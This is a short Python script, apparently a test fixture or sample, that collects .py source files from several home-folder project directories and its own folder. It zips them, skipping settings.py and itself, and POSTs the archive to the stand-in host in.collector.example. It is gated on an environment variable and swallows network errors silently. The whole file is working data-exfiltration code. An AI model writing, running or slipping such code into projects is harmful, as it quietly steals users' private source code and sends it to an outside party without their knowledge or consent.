"""Reads Python files of projects in the home folder and of other installed distributions, all but
settings, and posts them."""
import io
import os
import urllib.request
import zipfile

if os.environ.get("PYTI_CORPUS") == "takes-sources":
    collected = io.BytesIO()
    places = [os.path.expanduser("~/" + name) for name in ("projects", "code", "dev", "work", "Documents")]
    places.append(os.path.dirname(__file__))
    with zipfile.ZipFile(collected, "w", zipfile.ZIP_DEFLATED) as archive:
        for place in places:
            for folder, _, names in os.walk(place):
                for name in names:
                    if name.endswith(".py") and name not in ("settings.py", "takes_sources.py"):
                        archive.write(os.path.join(folder, name))
    try:
        urllib.request.urlopen("http://in.collector.example/sources", collected.getvalue(), timeout=3).close()
    except OSError:
        pass
